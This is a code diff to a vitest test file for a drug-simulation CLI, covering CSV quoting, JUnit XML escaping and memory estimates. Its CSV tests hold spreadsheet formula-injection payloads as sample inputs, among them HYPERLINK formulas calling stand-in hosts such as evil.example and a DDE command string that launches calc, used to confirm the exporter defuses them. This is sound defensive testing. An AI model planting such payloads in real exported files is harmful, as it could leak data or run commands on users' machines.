@@ -1,7 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { csvField, csvRow } from '../../engine/cli/csv.js';
-import { escapeXml, junitXml } from '../../engine/cli/junit.js';
-import { populationTooLarge, formatBytes } from '../../engine/cli/options.js';
+import { escapeXml, escapeXmlAttr, junitXml } from '../../engine/cli/junit.js';
+import { patientsCsv, timecourseCsv, trajectoriesCsv } from '../../engine/cli/result-csv.js';
+import { fakeResult } from './fake-engine.js';
+import { formatBytes } from '../../engine/cli/format-bytes.js';
+import { estimateMemory, memoryProblem, type RunPlan } from '../../engine/cli/memory-estimate.js';
 import { ProgressBar, formatSeconds } from '../../engine/cli/progress.js';
 import { styleFor } from '../../engine/cli/io.js';
 import { assertWellFormedXml } from './xml-check.js';
@@ -18,11 +21,44 @@ describe('CSV quoting (RFC 4180)', () => {
     expect(csvField(true)).toBe('1');
     expect(csvRow(['a', 1, undefined])).toBe('a,1,\r\n');
   });
+
+  it('defuses text a spreadsheet would run as a formula (OWASP CSV injection); numbers stay numbers', () => {
+    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
+    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe(`"'+1+cmd|' /C calc'!A0"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
+    expect(csvField('\t=1')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField(-2.5)).toBe('-2.5');
+    expect(csvField('75 mg = 1 vial')).toBe('75 mg = 1 vial');
+  });
+
+  it('every CSV the CLI writes defuses formula-like regimen, output and column names', () => {
+    const result = fakeResult('/x/s1.yaml', { nPatients: 2, trajectories: 1 });
+    const evil = '=HYPERLINK("http://evil.example","x")';
+    result.regimens[0].name = evil;
+    result.regimens[0].raw.name = evil;
+    result.regimens[0].raw.quantiles[0].output = '@Cp';
+    result.regimens[0].raw.trajectories!.outputs = ['@Cp'];
+    result.patients = { '+WT': result.patients.WT };
+    for (const text of [[...patientsCsv(result)], [...timecourseCsv(result)], [...trajectoriesCsv(result)]].map((rows) => rows.join(''))) {
+      // No field (at the start of a line or after a separator) begins with a formula character.
+      expect(text).not.toMatch(/(^|,|\r\n)"?[=+@\-]/);
+      expect(text).toMatch(/"'[=@+]/);
+    }
+  });
 });
 
 describe('JUnit XML', () => {
   it('escapes markup and strips characters XML cannot hold', () => {
     expect(escapeXml(`<a b="c" d='e'> & \u001b[31m`)).toBe('&lt;a b=&quot;c&quot; d=&apos;e&apos;&gt; &amp; [31m');
+  });
+
+  it('keeps line breaks and tabs in attribute values as character references (a parser would turn them into spaces)', () => {
+    expect(escapeXmlAttr('a\nb\tc\rd')).toBe('a&#10;b&#9;c&#13;d');
+    const xml = junitXml('s', [{ name: 'x', classname: 'c', timeSeconds: 0, error: { message: 'two\nlines', body: 'two\nlines' } }], 't');
+    assertWellFormedXml(xml);
+    expect(xml).toContain('message="two&#10;lines">two\nlines</error>');
   });
 
   it('is well-formed with failures, errors and hostile names', () => {
@@ -44,13 +80,32 @@ describe('JUnit XML', () => {
 });
 
 describe('population memory check', () => {
-  it('accepts everyday sizes and rejects absurd ones with the memory it would need', () => {
-    const GiB = 1024 ** 3;
-    expect(populationTooLarge(100_000, 2, 5, 8 * GiB)).toBeUndefined();
-    const msg = populationTooLarge(1e12, 2, 5, 8 * GiB);
-    expect(msg).toMatch(/^1000000000000 patients would need about \d+(\.\d)? PiB of memory .* this machine has 8\.0 GiB$/);
-    // Above 2^32 − 1 patients the 32-bit RNG counter cannot index them, whatever the RAM.
-    expect(populationTooLarge(2 ** 32, 1, 1, 1e30)).toBeDefined();
+  const GiB = 1024 ** 3;
+  const mem = (bytes: number) => ({ bytes, source: 'available (test)' });
+  // The shape of the built-in default scenario: 2 regimens, 9 outputs, 673 grid times (hourly over 4 weeks).
+  const plan = (nPatients: number, over: Partial<RunPlan> = {}): RunPlan => ({
+    nPatients, regimens: 2, outputs: 9, gridPoints: 673, summaryColumns: 20, patientColumns: 12, trajectories: 0, ...over,
+  });
+
+  it('counts every output at every grid time per regimen on the CPU, not on WebGPU', () => {
+    const cpu = estimateMemory(plan(1), 'cpu');
+    expect(cpu.perPatientGrid).toBe(2 * 9 * 673 * 8);
+    expect(cpu.perPatient).toBeGreaterThan(cpu.perPatientGrid);
+    expect(estimateMemory(plan(1), 'auto').perPatient).toBe(cpu.perPatient);
+    expect(estimateMemory(plan(1), 'webgpu').perPatientGrid).toBe(0);
+    // A finer grid costs proportionally more.
+    expect(estimateMemory(plan(1, { gridPoints: 6730 }), 'cpu').perPatientGrid).toBe(10 * cpu.perPatientGrid);
+  });
+
+  it('refuses what does not fit in the available memory and names the largest population that does', () => {
+    expect(memoryProblem(plan(100_000), 'cpu', mem(24 * GiB))).toBeUndefined();
+    const msg = memoryProblem(plan(3_000_000), 'cpu', mem(24 * GiB));
+    expect(msg).toMatch(/^3000000 patients would need about \d+ GiB of memory \(\d+ KiB per patient, of which \d+ KiB are 9 output\(s\) × 673 grid times × 2 regimen\(s\) × 8 B\); 24 GiB is available \(test\), so at most (\d+) patients fit$/);
+    const fits = Number(/at most (\d+) patients/.exec(msg!)![1]);
+    expect(memoryProblem(plan(fits), 'cpu', mem(24 * GiB))).toBeUndefined();
+    expect(memoryProblem(plan(fits + 1), 'cpu', mem(24 * GiB))).toBeDefined();
+    // Above 2^32 − 1 patients the 32-bit RNG counter cannot index them, whatever the memory.
+    expect(memoryProblem(plan(2 ** 32, { outputs: 0, summaryColumns: 0, patientColumns: 0 }), 'webgpu', mem(1e30))).toMatch(/indexes at most 4294967295/);
     expect(formatBytes(1536)).toBe('1.5 KiB');
   });
 });
